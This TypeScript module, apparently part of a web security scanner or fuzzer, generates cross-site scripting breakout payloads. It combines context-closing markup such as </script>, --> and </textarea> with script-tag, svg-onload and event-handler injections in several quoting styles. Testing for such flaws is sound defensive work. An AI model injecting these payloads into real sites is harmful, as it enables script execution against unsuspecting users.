import { combine } from "../combine.ts";
import { RUN } from "../hook.ts";

/** Markup that ends the element, attribute or comment around a text. */
const ENDS = [
  `">`,
  `'>`,
  "`>",
  ">",
  "/>",
  "-->",
  "--!>",
  "]]>",
  "?>",
  "%>",
  "*/",
  "</title>",
  "</textarea>",
  "</script>",
  "</style>",
  "</noscript>",
  "</template>",
  "</select></option>",
  "</svg></math>",
  "</xmp></plaintext>",
  "</iframe></noembed></noframes>",
  "</table></form></div></div>",
] as const;

const STARTS = [`<script>${RUN}</script>`, `<svg/onload=${RUN}>`] as const;

/** Payloads that add attributes to the element around a text. */
const ATTRIBUTES = combine(
  [`"`, `'`, "", "`", `\\"`],
  [
    `onmouseover=${RUN}`,
    `autofocus onfocus=${RUN}`,
    `style=animation-name:x onanimationstart=${RUN}`,
  ],
  (quote, attribute) => `x${quote} ${attribute} ${quote}`,
);

/** Payloads that break out of an element, an attribute or a comment. */
export const breakouts: readonly string[] = [
  ...combine(ENDS, STARTS, (end, start) => `${end}${start}`),
  ...ATTRIBUTES,
];
